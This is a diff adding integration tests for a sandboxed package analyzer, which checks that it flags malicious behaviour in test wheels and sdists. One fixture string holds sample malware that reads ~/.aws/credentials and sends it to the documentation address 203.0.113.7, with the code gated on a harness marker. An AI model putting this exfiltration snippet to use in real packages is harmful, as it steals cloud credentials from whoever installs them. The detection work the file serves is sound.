@@ -1,0 +1,227 @@
+"""The whole analyzer against a real sandbox daemon, with inert packages made here."""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import json
+import os
+import subprocess
+import zlib
+from collections.abc import Iterator
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+
+from analyzer.memfd import sealed
+from analyzer.pipeline import analyse
+from analyzer.sandbox.client import SandboxClient
+from analyzer.sandbox.launch import daemon_argv
+from models.artifact import IndexName, Sha256, parse_ref
+from models.clock import utc_now
+from models.evidence import Layer, Phase, ProofKind, ResolvedFile
+from models.facts import Facts
+from models.work import EvidencePost, Lease, ResolvedSet, ResolveRequest
+from tests.analyzer.archives import make_sdist, make_wheel, make_zip, wheel_members
+
+pytestmark = pytest.mark.privileged
+
+ACTS_ONLY_IN_BOXES = """\
+import os, pathlib
+if os.environ.get("PRATIQUE_HARNESS") == "1" and pathlib.Path("/run/pratique-harness").exists():
+    import urllib.request
+    key = pathlib.Path("~/.aws/credentials").expanduser().read_bytes()
+    try:
+        urllib.request.urlopen("http://203.0.113.7/", data=key, timeout=5).read()
+    except OSError:
+        pass
+"""
+BACKEND = """\
+import base64, hashlib, pathlib, runpy, zipfile
+
+def build_wheel(directory, config_settings=None, metadata_directory=None):
+    runpy.run_path("setup.py")
+    info = "reenact_demo-1.0.dist-info"
+    files = {
+        "calm.py": "CALM = True\\n",
+        f"{info}/METADATA": "Metadata-Version: 2.1\\nName: reenact-demo\\nVersion: 1.0\\n",
+        f"{info}/WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
+    }
+    record = ""
+    name = "reenact_demo-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(pathlib.Path(directory, name), "w") as archive:
+        for path, text in files.items():
+            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode()
+            record += f"{path},sha256={digest.rstrip('=')},{len(text)}\\n"
+            archive.writestr(path, text)
+        archive.writestr(f"{info}/RECORD", record + f"{info}/RECORD,,\\n")
+    return name
+"""
+"""A PEP 517 back end inside the sdist: it runs setup.py as setuptools would, and needs no index."""
+PYPROJECT = """\
+[build-system]
+requires = []
+build-backend = "backend"
+backend-path = ["."]
+"""
+
+
+def sdist(setup: str) -> bytes:
+    return make_sdist({"pyproject.toml": PYPROJECT, "backend.py": BACKEND, "setup.py": setup})
+
+
+@pytest.fixture(scope="module")
+def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SandboxClient]:
+    """A daemon with the harness marker, tracing."""
+    run_dir = Path("/run") / f"pratique-test-{os.getpid()}"
+    run_dir.mkdir(mode=0o711)
+    socket = run_dir / "sandbox.sock"
+    errors = tmp_path_factory.mktemp("daemon") / "stderr"
+    with errors.open("wb") as stderr:
+        daemon = subprocess.Popen(
+            daemon_argv(
+                socket=socket,
+                client_uid=os.geteuid(),
+                run_dir=run_dir,
+                harness=True,
+                uid_base=64700,
+            ),
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.PIPE,
+            stderr=stderr,
+            cwd="/",
+        )
+    assert daemon.stdout is not None
+    try:
+        assert daemon.stdout.readline().strip() == b"ready", errors.read_text()
+        yield SandboxClient(socket)
+    finally:
+        daemon.terminate()
+        daemon.wait(timeout=30)
+        daemon.stdout.close()
+        for left in run_dir.iterdir():
+            left.unlink() if not left.is_dir() else left.rmdir()
+        run_dir.rmdir()
+
+
+class Shelf:
+    """A proxy port that holds a few wheels, and resolves everything to all of them."""
+
+    def __init__(self, **wheels: bytes) -> None:
+        self._wheels = {hashlib.sha256(data).hexdigest(): data for data in wheels.values()}
+        self._names = dict(zip(self._wheels, wheels, strict=True))
+
+    async def resolve(self, request: ResolveRequest) -> ResolvedSet:
+        return ResolvedSet(
+            files=tuple(
+                ResolvedFile(
+                    project=name,
+                    version="1.0",
+                    filename=f"{name}-1.0-py3-none-any.whl",
+                    sha256=Sha256(sha256),
+                    role=request.role,
+                )
+                for sha256, name in self._names.items()
+            )
+        )
+
+    async def fetch(self, sha256: Sha256) -> int:
+        return sealed(self._wheels[sha256], sha256)
+
+
+def run(
+    sandbox: SandboxClient, filename: str, data: bytes, shelf: Shelf | None = None
+) -> EvidencePost:
+    digest = Sha256(hashlib.sha256(data).hexdigest())
+    ref = parse_ref(IndexName("test"), "reenact-demo", digest, filename)
+    now = utc_now()
+    lease = Lease(
+        lease_id="lease",
+        job_id=1,
+        ref=ref,
+        size_bytes=len(data),
+        attempt=1,
+        facts=Facts(ref=ref, as_of=now),
+        expires_at=now + timedelta(seconds=60),
+    )
+    descriptor = sealed(data, digest)
+    try:
+        return asyncio.run(
+            analyse(
+                lease=lease,
+                artifact_fd=descriptor,
+                sandbox=sandbox,
+                proxy=shelf or Shelf(),
+                clock=utc_now,
+                worker_name="test",
+            )
+        )
+    finally:
+        os.close(descriptor)
+
+
+def test_analyse__a_harmless_wheel_is_complete_and_clean(sandbox: SandboxClient) -> None:
+    data = make_wheel({"reenact_demo/__init__.py": "import json, ctypes.util\nVERSION = 1\n"})
+
+    post = run(sandbox, "reenact_demo-1.0-py3-none-any.whl", data)
+
+    evidence = post.evidence
+    assert evidence.shortfalls == ()
+    assert evidence.findings == ()
+    assert evidence.layers == (Layer.METADATA, Layer.BEHAVIOUR)
+    assert [phase.phase for phase in evidence.phases] == [Phase.INSTALL, Phase.START, Phase.IMPORT]
+    assert evidence.coverage.modules_imported == evidence.coverage.modules_found == 1
+    assert evidence.account.emitted == evidence.account.received > 0
+    lines = zlib.decompress(post.trace, 31).splitlines()
+    assert len(lines) >= evidence.account.stored
+    owners = {json.loads(line).get("owner", "") for line in lines}
+    assert owners == {"", "box:runner"}
+
+
+def test_analyse__a_wheel_that_sends_a_decoy_on_import_is_proved(sandbox: SandboxClient) -> None:
+    data = make_wheel({"reenact_demo/__init__.py": ACTS_ONLY_IN_BOXES})
+
+    evidence = run(sandbox, "reenact_demo-1.0-py3-none-any.whl", data).evidence
+
+    assert {(found.proof, found.phase, found.what) for found in evidence.proofs} == {
+        (ProofKind.CANARY_LEFT, Phase.IMPORT, "aws-key")
+    }
+    assert evidence.proofs[0].place.address == "203.0.113.7"
+    assert evidence.shortfalls == ()
+    assert {"decoy-read", "decoy-read-then-sent", "network-connect"} <= {
+        found.id for found in evidence.findings
+    }
+
+
+def test_analyse__an_sdist_that_sends_a_decoy_at_build_is_proved(sandbox: SandboxClient) -> None:
+    evidence = run(sandbox, "reenact_demo-1.0.tar.gz", sdist(ACTS_ONLY_IN_BOXES)).evidence
+
+    assert {(found.proof, found.phase, found.what) for found in evidence.proofs} == {
+        (ProofKind.CANARY_LEFT, Phase.INSTALL, "aws-key")
+    }
+    assert evidence.shortfalls == ()
+
+
+def test_analyse__a_harmless_sdist_is_complete_and_clean(sandbox: SandboxClient) -> None:
+    asks_the_system = "import subprocess\nsubprocess.run(['uname'], check=False)\n"
+
+    evidence = run(sandbox, "reenact_demo-1.0.tar.gz", sdist(asks_the_system)).evidence
+
+    assert evidence.shortfalls == ()
+    assert evidence.findings == ()
+    assert evidence.coverage.modules_imported == 1
+
+
+def test_analyse__a_dependency_is_charged_with_its_own_acts(sandbox: SandboxClient) -> None:
+    members = wheel_members(
+        {"reenact_demo/__init__.py": "import loud\n"}, metadata=("Requires-Dist: loud",)
+    )
+    shelf = Shelf(loud=make_wheel({"loud.py": ACTS_ONLY_IN_BOXES}, name="loud"))
+
+    evidence = run(sandbox, "reenact_demo-1.0-py3-none-any.whl", make_zip(members), shelf).evidence
+
+    assert evidence.proofs == ()
+    assert {found.owner for found in evidence.findings if found.id == "canary-left"} == {
+        "box:dependencies"
+    }
